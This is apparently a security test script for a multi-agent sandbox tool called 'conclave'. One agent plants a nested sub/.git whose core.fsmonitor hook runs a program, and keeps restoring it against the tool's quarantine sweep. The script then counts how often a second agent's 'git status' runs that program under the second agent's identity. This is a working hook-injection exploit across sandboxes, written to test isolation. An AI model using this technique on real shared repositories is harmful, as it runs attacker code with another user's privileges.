#!/bin/sh
# Race the sweep during the run: mallory plants sub/.git (core.fsmonitor -> `conclave whoami` into a file) and
# renames it back each time the sweep renames it aside; bob runs `git status` in sub/ once a second for 8 s.
# How many of bob's 8 ran mallory's program inside bob's box, with bob's ticket?   ./restore_loop.sh [strict|landlock]
set -eu
HERE=$(cd "$(dirname "$0")" && pwd)
LEVEL=${1:-strict}
B=$("$HERE/setup.sh")
U="$HERE/asuser.sh $B"
$U sh -c "set -e; cd $B/home; mkdir repo; cd repo; git init -q -b main; mkdir sub; echo real > sub/file.txt; echo hi > README.md;
  git add -A; git -c user.name=p -c user.email=p@x commit -qm init"
MALLORY='cd "$(git rev-parse --show-toplevel)"; T=$PWD; git init -q sub; P="$T/sub/.git/fsmon"
printf "#!/bin/sh\n(echo; conclave whoami --json | tr -d \"\\\\n \") >> $T/sub/said 2>&1\nexit 1\n" > "$P"; chmod +x "$P"
git -C sub config core.fsmonitor "$P"; touch sub/ready; n=0
end=$(( $(date +%s) + 11 )); while [ $(date +%s) -lt $end ]; do
  if [ -d sub/.git.conclave-quarantine ]; then mv sub/.git.conclave-quarantine sub/.git && mv sub/.git/HEAD.conclave-quarantine sub/.git/HEAD && n=$((n+1)); fi; sleep 0.01; done
echo "mallory restored it $n times"'
BOB='cd "$(git rev-parse --show-toplevel)"; for i in $(seq 100); do [ -e sub/ready ] && break; sleep 0.1; done
for i in 1 2 3 4 5 6 7 8; do (cd sub && git status --short >/dev/null 2>&1); sleep 1; done; echo "bob: payload ran $(grep -c bob sub/said) of 8 times as bob: $(grep bob sub/said | head -1)"'
$U /usr/bin/python3 - "$B" "$LEVEL" "$MALLORY" "$BOB" <<'PY'
import json, sys
b, level, m, bob = sys.argv[1:5]
t = ""
for name, script in (("mallory", m), ("bob", bob)):
    t += f'[[agent]]\nname = "{name}"\nsandbox = "{level}"\ncommand = {json.dumps(["sh", "-c", script])}\n\n'
open(f"{b}/home/team.toml", "w").write(t)
PY
$U sh -c "cd $B/home/repo && conclave run --team $B/home/team.toml --repo $B/home/repo --state-dir $B/home/state --accept-team" 2>&1 | grep -E "mallory|bob" | grep -v "started\|exit\|quarantine" | head
echo "after the run: $(ls -d $B/home/repo/sub/.git* )"
